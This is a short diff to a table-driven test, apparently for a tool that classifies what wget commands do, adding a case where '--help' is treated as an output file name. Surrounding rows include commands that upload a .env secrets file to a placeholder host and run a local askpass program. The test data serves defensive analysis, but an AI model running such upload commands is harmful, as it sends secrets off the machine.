@@ -44,6 +44,7 @@ table("fetchers", fetchers, [
   ["wget -P /tmp https://e.example/f", ["network https://e.example/f", "write /tmp/f"]],
   ["wget --post-file=.env e.example", ["network e.example upload", "read .env", "write index.html"]],
   ["wget --post-f=.env -O- e.example", ["network e.example upload", "read .env"]],
+  ["wget -O --help e.example", ["network e.example", "write --help"]],
   ["wget --spider https://e.example", [`network ${e}`]],
   ["wget -m https://e.example", [`network ${e}`, "write . recursive"]],
   ["wget --use-askpass=./x https://e.example/f", ["run ./x", "network https://e.example/f", "write f"]],
